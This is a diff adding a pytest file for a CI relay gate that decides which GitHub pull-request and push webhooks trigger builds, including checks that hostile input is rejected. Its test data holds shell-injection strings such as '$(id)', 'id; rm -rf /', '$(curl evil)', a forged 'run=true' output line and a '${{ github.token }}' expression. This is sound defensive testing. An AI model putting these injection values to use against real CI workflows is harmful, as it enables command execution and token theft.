@@ -1,0 +1,175 @@
+"""Gate decisions on the shared fixtures and on hostile payloads (no torch)."""
+
+from __future__ import annotations
+
+import copy
+import json
+import os
+import sys
+from pathlib import Path
+
+import pytest
+
+from ootest.relay.gate import (
+    EnvelopeError,
+    RelayPolicy,
+    gate,
+    parse_envelope,
+    write_github_output,
+)
+from tests.conftest import SHARED, ootest, run
+
+CRCR = SHARED / "fixtures" / "crcr"
+
+
+def fixture(name: str) -> dict:  # type: ignore[type-arg]
+    if not CRCR.is_dir():
+        pytest.skip("shared/fixtures is not next to this checkout")
+    return json.loads((CRCR / name).read_text())
+
+
+L3 = RelayPolicy(device="emu")  # needs label ciflow/crcr/emu
+L4 = RelayPolicy(device="emu", pr_label=None)  # every PR
+
+
+@pytest.mark.parametrize(
+    ("name", "policy", "run", "reason"),
+    [
+        ("pull_request_opened.json", L3, False, "PR #12345 opened: no label ciflow/crcr/emu"),
+        ("pull_request_opened.json", L4, True, "PR #12345 opened"),
+        ("pull_request_synchronize.json", L4, True, "PR #12345 synchronize"),
+        ("pull_request_closed.json", L4, False, "PR #12345 was closed without landing"),
+        ("push_ciflow_tag.json", L3, True, "push of tag ciflow/trunk/12345"),
+        ("push_tag_deleted.json", L3, False, "push deletes a ref; nothing to build"),
+    ],
+)
+def test_fixture_decisions(name: str, policy: RelayPolicy, run: bool, reason: str) -> None:
+    res = gate(parse_envelope(fixture(name)), policy)
+    assert (res.run, res.reason) == (run, reason)
+
+
+def test_fixture_refs() -> None:
+    res = gate(parse_envelope(fixture("pull_request_synchronize.json")), L4)
+    assert (res.kind, res.sha, res.pr_number) == ("pr", "b" * 40, "12345")
+    res = gate(parse_envelope(fixture("push_ciflow_tag.json")), L3)
+    assert (res.kind, res.sha, res.ref) == ("push", "d" * 40, "refs/tags/ciflow/trunk/12345")
+
+
+@pytest.mark.parametrize("name", ["github_webhook_pull_request_opened.json",
+                                  "github_webhook_pull_request_synchronize.json"])
+def test_github_examples_rejected_for_repository(name: str) -> None:
+    with pytest.raises(EnvelopeError, match=r"expected 'pytorch/pytorch', found "
+                       r"'Codertocat/Hello-World'"):
+        parse_envelope(fixture(name))
+
+
+def _landed(merged: bool, labels: list[str], base: str = "main") -> dict:  # type: ignore[type-arg]
+    env = copy.deepcopy(fixture("pull_request_closed.json"))
+    pr = env["payload"]["pull_request"]
+    pr.update(merged=merged, labels=[{"name": x} for x in labels], base={"ref": base})
+    return env
+
+
+def test_landed_by_merged_label_and_branch() -> None:
+    res = gate(parse_envelope(_landed(False, ["Merged"])), L3)
+    assert (res.run, res.kind, res.base, res.pr_number, res.sha) == (
+        True, "landed", "main", "12345", "")
+    assert gate(parse_envelope(_landed(True, [])), L3).run
+    assert gate(parse_envelope(_landed(False, ["Merged"], "release/2.13")), L3).run
+    res = gate(parse_envelope(_landed(False, ["Merged"], "feature-x")), L3)
+    assert not res.run and "does not track" in res.reason
+
+
+def test_label_gated_pr_runs_with_label() -> None:
+    env = fixture("pull_request_opened.json")
+    env["payload"]["pull_request"]["labels"] = [{"name": "ciflow/crcr/emu"}]
+    assert gate(parse_envelope(env), L3).run
+
+
+HOSTILE = "x\"; echo pwned $(id) `id`\nrun=true\n${{ github.token }}"
+
+
+def test_hostile_strings_never_reach_outputs(tmp_path: Path) -> None:
+    env = fixture("pull_request_opened.json")
+    pr = env["payload"]["pull_request"]
+    pr["title"] = HOSTILE
+    pr["labels"] = [{"name": HOSTILE}, {"name": "ciflow/crcr/emu"}]
+    pr["head"]["ref"] = HOSTILE
+    res = gate(parse_envelope(env), L3)
+    out = tmp_path / "out"
+    write_github_output(res.outputs(), out)
+    text = out.read_text()
+    assert "pwned" not in text and "${{" not in text
+    # Each value sits between its own random delimiter lines: parse like the runner does.
+    lines, values = text.splitlines(), {}
+    i = 0
+    while i < len(lines):
+        key, delim = lines[i].split("<<")
+        j = lines.index(delim, i + 1)
+        values[key] = "\n".join(lines[i + 1:j])
+        i = j + 1
+    assert values["run"] == "true" and values["sha"] == "a" * 40
+
+
+@pytest.mark.parametrize(
+    ("mutate", "message"),
+    [
+        (lambda e: e["payload"]["pull_request"]["head"].update(sha="abc"), "40-character"),
+        (lambda e: e["payload"]["pull_request"]["head"].update(sha="A" * 40), "40-character"),
+        (lambda e: e["payload"]["pull_request"]["head"].update(sha="$(id)" + "a" * 35),
+         "40-character"),
+        (lambda e: e.pop("delivery_id"), "missing field 'delivery_id'"),
+        (lambda e: e.update(delivery_id="id; rm -rf /"), "delivery_id: expected"),
+        (lambda e: e.update(event_type="workflow_run"), "expected 'pull_request' or 'push'"),
+        (lambda e: e["payload"]["pull_request"].update(number="12345"), "expected int"),
+        (lambda e: e["payload"]["pull_request"].update(number=True), "expected int"),
+        (lambda e: e["payload"].update(repository="pytorch/pytorch"), "expected dict"),
+        (lambda e: e["payload"].update(pad="x" * 70_000), "GitHub caps it at 65535"),
+        (lambda e: e["payload"]["repository"].update(full_name="pytorch/pytorch\n$(id)"),
+         "'<unprintable>'"),
+    ],
+)
+def test_malformed_envelopes_rejected(mutate, message: str) -> None:  # type: ignore[no-untyped-def]
+    env = fixture("pull_request_opened.json")
+    mutate(env)
+    with pytest.raises(EnvelopeError, match=message.replace("(", r"\(").replace("$", r"\$")):
+        gate(parse_envelope(env), L4)
+
+
+def test_hostile_push_ref_is_inert() -> None:
+    env = fixture("push_ciflow_tag.json")
+    env["payload"]["ref"] = "refs/tags/ciflow/$(curl evil)"
+    res = gate(parse_envelope(env), L3)
+    assert not res.run and "$(" not in res.reason and res.ref == ""
+
+
+def test_cli_gate_writes_github_output(tmp_path: Path) -> None:
+    if not CRCR.is_dir():
+        pytest.skip("no fixtures")
+    event = tmp_path / "event.json"
+    event.write_text(json.dumps({"action": "push",
+                                 "client_payload": fixture("push_ciflow_tag.json")}))
+    out = tmp_path / "gh_out"
+    r = ootest("relay", "gate", env={"GITHUB_EVENT_PATH": str(event), "GITHUB_OUTPUT": str(out)})
+    assert r.returncode == 0, r.stderr
+    assert r.stdout.strip() == "run: push of tag ciflow/trunk/12345"
+    assert "d" * 40 in out.read_text()
+
+
+def test_cli_gate_rejects_with_exit_2() -> None:
+    if not CRCR.is_dir():
+        pytest.skip("no fixtures")
+    r = ootest("relay", "gate", str(CRCR / "github_webhook_pull_request_opened.json"))
+    assert r.returncode == 2
+    assert "Codertocat/Hello-World" in r.stderr and "Traceback" not in r.stderr
+
+
+def test_relay_commands_do_not_import_torch() -> None:
+    if not CRCR.is_dir():
+        pytest.skip("no fixtures")
+    code = ("import sys; from ootest.cli.main import main; "
+            f"rc = main(['relay', 'gate', {str(CRCR / 'push_ciflow_tag.json')!r}]); "
+            "assert 'torch' not in sys.modules; sys.exit(rc)")
+    r = run([sys.executable, "-c", code], env={k: v for k, v in os.environ.items()
+                                               if k != "GITHUB_OUTPUT"})
+    assert r.returncode == 0, r.stderr
